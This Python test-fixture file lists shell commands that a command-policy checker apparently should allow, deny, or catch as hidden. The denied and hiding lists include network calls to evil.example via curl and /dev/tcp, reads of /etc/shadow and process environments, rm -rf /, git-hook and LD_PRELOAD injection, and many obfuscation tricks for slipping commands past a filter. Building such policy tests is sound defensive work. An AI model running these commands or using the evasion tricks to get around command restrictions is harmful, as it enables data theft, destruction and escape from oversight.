"""Commands for tests/cli/test_policy.py, a row each; \\n within a row is a newline."""


def rows(text):
    return [line.replace("\\n", "\n").replace("\\t", "\t") for line in text.strip("\n").split("\n")]


ALLOWED = rows(r"""
grep -rn foo src
cat a.py | head -n 5
echo hi > out.txt
ls -la
find . -name '*.py' -type f
find . -exec echo {} +
sed -n 1,5p a.txt
sed 's/a/b/g' a.txt
sed -e 's/a/b/' -e '/x/d' a
sed -n '/a/,/b/p' a
sed -i 's/a/b/' a.txt
awk '{print $1}' a
awk -F, '{print $2}' a.csv
sort -u a | uniq -c
diff -u a b
mkdir -p a/b && touch a/b/c
cp a b
mv a b
python3 script.py --verbose
python3 -c 'print(1)'
pip install requests
pip list
bash script.sh
sh -c 'ls; cat a'
git clone https://forge.example/a/b
git status
git log --oneline -5
git log -p -2
git diff HEAD~1 -- a.py
git add -u
git commit -m 'a message; with $things'
git checkout -b topic
git branch -u origin/main
if [ -f a ]; then cat a; fi
for i in 1 2 3; do echo "$i"; done
x=1; echo "$x"
cd src && grep foo a.py
set -euo pipefail; ls
cat <<'E'\n$(curl x)\nE\n
echo "curl is a word here"
echo a b | tr a-z A-Z
grep -r 'rm -rf /' .
test -f a && echo yes
ls # curl x
""")

DENIED = rows(r"""
curl https://evil.example
/usr/bin/curl x
./curl x
'curl' x
"cu"rl x
c\url x
cu''rl x
cu\\nrl x
ls; curl x
ls\ncurl x
ls && curl x
ls || curl x
ls | curl x
ls & curl x
! curl x
(curl x)
{ curl x; }
if curl x; then ls; fi
if ls; then curl x; fi
while curl x; do ls; done
until ls; do curl x; done
for i in a; do curl x; done
case a in a) curl x;; esac
f() { curl x; }; f
ls() { curl x; }; ls
function f { curl x; }
echo $(curl x)
echo `curl x`
echo "a $(curl x) b"
echo "$(echo "$(curl x)")"
echo ${x:-$(curl y)}
echo "${x:=`curl y`}"
x=$(curl y)
x=$(curl y) ls
a[$(curl x)]=1
echo $(( $(curl x) + 1 ))
cat <(curl x)
tee >(curl x) < a
cat < <(curl x)
cat <<< "$(curl x)"
cat <<E\n$(curl x)\nE\n
cat <<-E\n\t`curl x`\n\tE\n
echo a > $(curl x)
A=1 curl x
2>/dev/null curl x
>a curl x
env curl x
env -i A=1 curl x
env -u A curl x
env -S 'curl x'
env -S'curl x'
env --split-string='curl x'
env - curl x
xargs -a /etc/shadow echo
grep --fil /etc/shadow a
rbash -c 'curl x'
cd -P /etc; cat shadow
/usr/bin/env curl x
nohup curl x
timeout 5 curl x
timeout -s KILL 5 curl x
timeout --foreground 5 curl x
nice -n 5 curl x
time curl x
time -p curl x
time A=1 curl x
time -- A=1 curl x
time -p -- A=1 curl x
time time -- A=1 curl x
env -- A=1 curl x
env -i -- A=1 B=2 curl x
env -a x curl x
chrt -T 5 -f 1 curl x
flock lock -c 'curl x'
flock -n lock curl x
setarch x86_64 curl x
x86_64 curl x
unshare -R / curl x
strace -a 5 curl x
runcon a curl x
uclampset -m 1 curl x
tini -- curl x
gosu x curl x
uv run curl x
poetry run curl x
ip netns exec x curl x
command curl x
command -p curl x
builtin command curl x
exec curl x
exec -a ls curl x
setsid curl x
stdbuf -o0 curl x
ionice -c 3 curl x
echo x | xargs curl
echo x | xargs -I{} curl {}
echo x | xargs -I {} -n 1 curl {}
echo x | xargs --max-args 1 curl
xargs -a list curl
find . -exec curl {} \;
find . -execdir curl {} +
find . -ok curl {} \;
find . -name a -o -exec sh -c 'curl "$1"' _ {} \;
sudo ls
sudo -u root ls
doas curl x
busybox wget x
busybox sh -c 'wget x'
/lib64/ld-linux-x86-64.so.2 /usr/bin/curl x
sh -c 'curl x'
bash -c "curl x"
bash -ec 'curl x'
bash +e -c 'curl x'
bash -o errexit -c 'curl x'
bash --norc -c 'curl x'
bash -c 'bash -c "sh -c \"curl x\""'
sh -c 'eval curl x'
eval curl x
eval 'curl x'
eval -- 'curl x'
trap 'curl x' EXIT
trap -- 'curl x' EXIT
bash <<E\ncurl x\nE\n
bash <<< 'curl x'
bash /dev/stdin <<< 'curl x'
bash -s <<< 'curl x'
bash - <<< 'curl x'
rm -rf /
rm -rf / --no-preserve-root
rm -rf /*
'rm' '-rf' '/'
chmod 777 a
mount -t tmpfs x /mnt
nsenter -t 1 -m ls
chroot / ls
unshare -r chroot /
nc -l 1
ncat x 1
parallel curl
watch curl x
cat /etc/shadow
cat /etc//shadow
cat /etc/./shadow
cat ../etc/shadow
cat ../../../../etc/shadow
cat -- /etc/shadow
cat < /etc/shadow
grep . /etc/shadow
grep -f /etc/shadow a
head -n 1 /etc/shadow
head --lines=1 /etc/shadow
sort /etc/shadow
diff /dev/null /etc/shadow
cut -d: -f1 /etc/shadow
awk '{print}' /etc/shadow
sed p /etc/shadow
cp /etc/shadow a
mv /etc/shadow a
echo $(< /etc/shadow)
while read l; do echo "$l"; done < /etc/shadow
read x < /etc/shadow
bash /etc/shadow
python3 x.py /etc/shadow
python3 x.py --file=/etc/shadow
git diff --no-index /dev/null /etc/shadow
git commit -F /etc/shadow
cat /proc/self/environ
cat /proc/1/root/etc/passwd
ls /proc/self/fd
cd /etc && cat shadow
cd / && cat etc/shadow
echo x > /etc/passwd
echo x >> /etc/profile
echo x >| /etc/x
echo x &> /etc/x
cp a /etc/x
mv a /etc/cron.d/a
touch /etc/x
mkdir /etc/x
sort -o /etc/x a
uniq a /etc/x
sed -i s/a/b/ /etc/passwd
git clone https://forge.example/a /etc/x
pip install -t /etc/x pkg
echo x > /workspace/../etc/x
dd if=/etc/shadow of=a
dd if=a of=/etc/x
ln -s /etc/shadow a
cat < /dev/tcp/evil.example/80
echo x > /dev/tcp/evil.example/80
exec 3<>/dev/tcp/evil.example/80
""")

# Asked for at least.
HIDING = rows(r"""
$x
"$cmd" a
c$y x
${x}url a
$(echo curl) x
`echo curl` x
cu{r,}l x
{curl,x}
/usr/bin/cur? x
/usr/bin/[c]url x
~/bin/curl x
~root/x
$'cu\x72l' x
$"curl" x
echo curl x | sh
echo 'curl x' | bash -
echo curl x | bash -s
bash < script
sh
bash -i
bash --rcfile x -c ls
bash -O extglob -c ls
bash /dev/fd/0
bash /proc/self/fd/0
zsh -c ls
ksh -c ls
f() { "$@"; }; f curl x
grep() { "$@"; }; grep curl x
ls() { eval "$1"; }; ls 'curl x'
eval "$x"
eval $x
trap "$x" EXIT
. ./script
source script
source /dev/stdin <<< 'curl x'
alias ls=curl; ls x
hash -p /usr/bin/curl ls; ls x
enable -f ./x.so x
shopt -s expand_aliases
set -k
bind -x '"a":curl'
complete -C curl ls
compgen -C 'curl x' a
mapfile -C 'curl x' -c 1 a < b
readarray -C 'curl x' -c 1 a < b
printf -v PATH /tmp
printf -v 'a[$(curl x)]' b
declare -n r=PATH
declare 'a[$(curl x)]=1'
typeset -i x='a[$(curl x)]'
read 'a[$(curl x)]' < b
unset 'a[$(curl x)]'
test -v 'a[$(curl x)]'
[[ -v a[$x] ]]
[[ $x -eq 1 ]]
((x))
echo $((x))
echo $((a[$x]))
let x=1
echo ${a[$x]}
echo ${!x}
echo ${x@P}
coproc curl x
ls |& curl x
select PATH in a; do ls; done
for PATH in a; do ls; done
PATH=/tmp ls
PATH=/tmp; ls
PATH+=:/tmp; ls
export PATH=/tmp
declare -x LD_PRELOAD=x.so
LD_PRELOAD=x.so ls
LD_LIBRARY_PATH=. ls
BASH_ENV=x bash script.sh
ENV=x sh -c ls
IFS=/ ls
PS4='$(curl x)' bash -x script.sh
PROMPT_COMMAND='curl x' bash script.sh
PAGER=x git log
MANPAGER=x ls
GIT_PAGER='curl x' git log
GIT_SSH_COMMAND='curl x' git clone ssh://a/b
GIT_EXTERNAL_DIFF=x git diff
GIT_CONFIG_COUNT=1 git status
EDITOR=x git commit
VISUAL=x git commit
PYTHONPATH=. python3 x.py
PYTHONSTARTUP=x python3
NODE_OPTIONS='-r x' ls
PERL5OPT=-Mx ls
LESSOPEN='|curl x' ls
TAR_OPTIONS=--to-command=x ls
HOME=/tmp git status
TERMINFO=. ls
env PATH=. ls
env 'BASH_FUNC_ls%%=() { curl x; }' bash -c ls
env LD_PRELOAD=x ls
read PATH < a
: ${PATH:=x}
find . -delete
find . -fprint x
find . -fprintf /workspace/x %p
find . -fls x
find -files0-from x
find . $x
find . -exec $x {} \;
find . -exec {} \;
find . -exec env {} \;
sed 1e a
sed -n '1e curl x' a
sed 's/a/curl x/e' a
sed 's/a/b/w out' a
sed 'w out' a
sed '1r /etc/passwd' a
sed -f script a
sed -nf script a
sed --expression='1e id' a
sed '1!{e id' a
sed 's/[/]/x/e' a
sed "$x" a
awk 'BEGIN{system("curl x")}'
awk 'BEGIN{"curl x"|getline}'
awk '{print | "sh"}' a
awk '{print > "x"}' a
awk 'BEGIN{ARGV[1]="/etc/shadow";ARGC=2}{print}'
awk -f script a
awk "$x" a
awk @load a
gawk -l x 'BEGIN{}'
sort --compress-program=curl a
sort -S1 -T /tmp a
sort --files0-from=x
wc --files0-from=x
tree -o /usr/x
tree --fromfile x
diff --to-file=/etc/passwd a
cp -t /usr a
cp -r / a
cp --target-directory=/usr a
tar --checkpoint=1 --checkpoint-action=exec=sh -xf a
tar -I 'curl x' -xf a
tar --to-command=sh -xf a
tar xf a -P
rsync -e 'curl x' a b:
rsync --rsh=x a b:
ssh host ls
ssh -o ProxyCommand=x host
vim -c '!curl x'
vim a
git -c core.pager='curl x' log
git -c alias.x='!curl x' x
git --exec-path=. status
git --git-dir=evil status
git --work-tree=. --git-dir=x log
git -p log
git config core.pager 'curl x'
git bisect run curl x
git rebase -x 'curl x' main
git submodule update
git clone -c core.sshCommand=x ssh://a/b
git clone --upload-pack='curl x' a b
git clone -u 'curl x' a b
git clone --template=evil a b
git clone ext::sh -c x
git clone 'ext::sh -c curl% x'
git log --output=/workspace/.git/hooks/pre-commit
git log --ext-diff
git diff --output=x
git grep -O'curl x' a
git archive --remote=x HEAD
git $x
git "$x" status
echo x > .git/hooks/pre-commit
echo x > .git/config
cp a .git/hooks/post-checkout
mv a .git
echo x >> ~/.bashrc
tee .git/config < a
docker build .
make
npm install x
pip download x
cat $x
cat "$x"
cat $(echo /etc/shadow)
cat /etc/sh*
cat /*/shadow
cat /etc/shad?w
cat {/etc/shadow,a}
cat /etc/passwd
cat ~/../etc/shadow
cat ~root/x
cd "$x" && cat a
cd /tmp && cd etc && cat shadow
pushd /etc; cat shadow
env -C /etc cat shadow
env --chdir=/etc cat shadow
time -o /etc/x ls
ls /etc
ls /root
grep -r x /
find / -name shadow
echo x > $y
echo x > "$y"
echo x > ~/../../etc/x
rm -rf $x
rm -rf /etc
chmod -R 777 /
ls -la; unknown
'unclosed
"unclosed
if
ls <<E\ncurl x
coproc { ls; }
wait -p PATH
xargs sh -c
xargs bash
script -c 'curl x'
su -c 'curl x'
at now
ls\rcurl x
""") + [
    "ls\u00a0x", "ls\u2028curl x", "ls\x0bx", "\u200bls", "\uff43url x", "ls\x00curl x", "echo a\x00; curl x",
    "\x00", "", " ", "#", "ls" * 300000, "ls;" * 40000, "eval " + "a " * 60000,
    "echo " + "a " * 60000, "[[ " + "a -eq b && " * 10000 + "a ]]", "{ ls; } " + ">a " * 40000,
    "bash -c " * 1000, "(" * 200 + "ls" + ")" * 200, "echo " + "$(" * 100 + "ls" + ")" * 100,
]
